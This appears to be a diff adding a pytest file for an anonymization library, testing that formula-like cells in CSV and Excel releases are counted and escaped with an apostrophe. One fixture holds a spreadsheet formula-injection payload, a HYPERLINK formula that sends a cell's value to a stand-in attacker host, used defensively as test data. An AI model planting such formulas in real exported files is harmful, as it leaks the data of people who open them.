@@ -1,0 +1,142 @@
+"""Formulas: the attacker once filled in a form, with `=HYPERLINK(...)` for a disease. Whoever opens the
+released CSV file with a spreadsheet runs it, and it sends other people's cells away. The summary counts such
+cells, and `escape-formulas` puts an apostrophe before each; all audits of the file still hold.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pyarrow as pa
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from pyarrow import parquet
+
+import shoal
+from shoal.read.formulas import escaped, formula_cells, restored
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1)'
+DISEASES = [EVIL, "@flu", "+49 30 1", "'=old", "-5", "cold", "\tx", "flu"]
+STARTS = "=+-@\t\r\n"
+
+
+def spec(**settings: Any) -> shoal.Spec:
+    given: dict[str, Any] = {
+        "quasi_identifiers": {"phone": shoal.mask(3), "age": shoal.intervals(10)},
+        "sensitive": ["disease"],
+        "privacy": [shoal.KAnonymity(4), shoal.TCloseness("disease", 0.9)],
+    }
+    return shoal.Spec(**given | settings)
+
+
+@pytest.fixture
+def people() -> pa.Table:
+    return pa.table({"phone": ["+49 1"] * 4 + ["+48 2"] * 4, "age": [-31] * 8, "disease": DISEASES})
+
+
+def cells(path: Path) -> list[list[str]]:
+    with path.open(encoding="utf-8", newline="") as file:
+        return list(csv.reader(file))
+
+
+def computed(cell: str) -> bool:
+    """The rule again, by hand: what begins so is computed, and only a number is harmless."""
+    try:
+        float(cell)
+    except ValueError:
+        return cell.startswith(tuple(STARTS))
+    return False
+
+
+def test_the_summary_counts_them_without_showing_any(people: pa.Table, tmp_path: Path) -> None:
+    release = shoal.anonymize(people, spec())
+    (note,) = [note for note in release.notes if "formulas" in note]
+    assert "phone 8, disease 5." in note
+    assert "--escape-formulas" in note
+    assert "HYPERLINK" not in release.summary()
+    release = shoal.anonymize(people, spec(), output=tmp_path / "release.parquet")
+    assert not [note for note in release.notes if "formulas" in note]
+
+
+@pytest.mark.parametrize("engine", ["memory", "duckdb"])
+def test_no_cell_of_the_file_is_computed(people: pa.Table, engine: str, tmp_path: Path) -> None:
+    parquet.write_table(people, tmp_path / "people.parquet")
+    path = tmp_path / "release.csv"
+    release = shoal.anonymize(
+        tmp_path / "people.parquet", spec(escape_formulas=True), output=path, engine=engine
+    )
+    assert any("apostrophe" in note and "disease 5" in note for note in release.notes)
+    rows = cells(path)[1:]
+    assert len(rows) == 8
+    assert not any(computed(cell) for row in rows for cell in row)
+    assert {row[2] for row in rows} >= {"'" + EVIL, "''=old", "-5", "cold"}
+    # The publisher's audit compares with the original, recipients have the file alone.
+    manifest = json.loads((tmp_path / "release.csv.manifest.json").read_text(encoding="utf-8"))
+    assert manifest["spec"]["escape-formulas"] is True
+    assert shoal.audit_release(path, original=people).holds
+    assert all(found.holds for found in shoal.audit_release(path).findings if found.checkable)
+    checker = [sys.executable, f"{path}.checker.py", str(path), f"{path}.manifest.json"]
+    ran = subprocess.run(checker, capture_output=True, text=True, check=False)
+    assert ran.returncode == 0, ran.stdout + ran.stderr
+
+
+def test_excel_and_compressed_files(people: pa.Table, tmp_path: Path) -> None:
+    people = people.set_column(2, "disease", pa.array([*DISEASES[:6], "x", "flu"]))
+    release = shoal.anonymize(people, spec(escape_formulas=True))
+    for name in ("release.xlsx", "release.csv.gz"):
+        assert shoal.audit_release(release.write(tmp_path / name), original=people).holds
+    from openpyxl import load_workbook
+
+    rows = load_workbook(tmp_path / "release.xlsx").active.iter_rows(values_only=True)  # type: ignore[union-attr]
+    assert not any(computed(str(cell)) for row in rows for cell in row)
+    plain = parquet.read_table(release.write(tmp_path / "release.parquet"))
+    assert EVIL in plain["disease"].to_pylist()
+
+
+def test_a_population_is_compared_with_what_the_labels_were(people: pa.Table, tmp_path: Path) -> None:
+    town = people.select(["phone", "age"])
+    asked = spec(escape_formulas=True, privacy=[shoal.KMap(4, town)])
+    path = shoal.anonymize(people, asked).write(tmp_path / "release.csv")
+    assert {row[0] for row in cells(path)[1:]} == {"'+49 1", "'+48 2"}
+    assert shoal.audit_release(path, asked, manifest=f"{path}.manifest.json").holds
+
+
+def test_an_extension_has_them_once(people: pa.Table, tmp_path: Path) -> None:
+    asked = spec(escape_formulas=True, privacy=[shoal.KAnonymity(4)])
+    path = shoal.anonymize(people, asked).write(tmp_path / "release.csv")
+    more = shoal.extend(f"{path}.manifest.json", people, new_people=True, output=tmp_path / "more.csv")
+    assert more.added_rows == 8
+    found = [row[2] for row in cells(tmp_path / "more.csv")]
+    assert found.count("'" + EVIL) == 2
+
+
+def test_names_of_columns(tmp_path: Path) -> None:
+    table = pa.table({"=age": [1, 1], "disease": ["flu", "flu"]})
+    odd = {"quasi_identifiers": {"=age": shoal.suppress()}, "privacy": [shoal.KAnonymity(2)]}
+    (note,) = [note for note in shoal.anonymize(table, spec(**odd)).notes if "formulas" in note]
+    assert "'=age'" in note
+    with pytest.raises(shoal.InputError, match="rename these columns"):
+        shoal.anonymize(table, spec(**odd, escape_formulas=True))
+
+
+def test_numbers_are_none(tmp_path: Path) -> None:
+    texts = pa.table({"a": ["-5", "+1.5", "-1,5", "-2e3"], "b": [-5.0, -1.0, 2.0, None]})
+    assert formula_cells(texts) == {}
+    assert escaped(texts).equals(texts)
+
+
+@given(st.lists(st.none() | st.text(STARTS + "'1a.", max_size=4)))
+@settings(max_examples=200, deadline=None)
+def test_no_two_cells_become_one_and_all_come_back(found: list[str | None]) -> None:
+    for column in (pa.array(found, pa.string()), pa.array(found, pa.large_string())):
+        table = pa.table({"a": column, "b": column.dictionary_encode()})
+        changed = escaped(table)
+        assert restored(changed).equals(table)
+        assert not any(computed(cell) for cell in changed["a"].to_pylist() if cell)
+        assert formula_cells(table).get("a", 0) >= sum(computed(cell) for cell in found if cell)
